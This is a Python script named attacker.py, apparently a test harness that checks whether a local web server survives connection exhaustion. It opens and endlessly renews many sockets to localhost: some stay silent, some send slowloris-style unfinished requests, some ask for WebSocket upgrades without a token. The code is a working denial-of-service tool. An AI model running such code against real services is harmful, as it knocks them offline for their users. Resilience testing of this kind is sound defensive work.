"""Another user of the machine: so many connections to the page, as nobody where that is allowed, renewed for ever.

`python attacker.py PORT COUNT`: a third says nothing, a third begins a request and never ends it, a third asks for a
WebSocket without the token. Prints a line once all were opened.
"""

import contextlib
import os
import resource
import select
import socket
import sys

NOBODY = 65534
PARTS = (
    b"",
    b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: ",
    b"GET /desk HTTP/1.1\r\nHost: 127.0.0.1:%d\r\nOrigin: http://127.0.0.1:%d\r\nUpgrade: websocket\r\n"
    b"Connection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n",
)


def open_one(port, number):
    connection = socket.socket()
    connection.setblocking(False)
    with contextlib.suppress(BlockingIOError):
        connection.connect(("127.0.0.1", port))
    part = PARTS[number % len(PARTS)]
    return connection, part % (port, port) if b"%d" in part else part


def main(port, count):
    if os.geteuid() == 0:
        os.setuid(NOBODY)
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    count = min(count, hard - 50)
    poll = select.poll()
    connections, unsent = {}, {}

    def attack(number):
        connection, part = open_one(port, number)
        connections[connection.fileno()], unsent[connection.fileno()] = connection, part
        poll.register(connection, select.POLLOUT | select.POLLIN)

    for number in range(count):
        attack(number)
    print("open", flush=True)
    number = count
    while True:
        for descriptor, events in poll.poll(1000):
            connection = connections[descriptor]
            if events & (select.POLLIN | select.POLLHUP | select.POLLERR):
                poll.unregister(descriptor)
                del connections[descriptor], unsent[descriptor]
                connection.close()
                attack(number)
                number += 1
            elif events & select.POLLOUT:
                with contextlib.suppress(OSError):
                    connection.send(unsent[descriptor])
                poll.modify(descriptor, select.POLLIN)


if __name__ == "__main__":
    main(int(sys.argv[1]), int(sys.argv[2]))
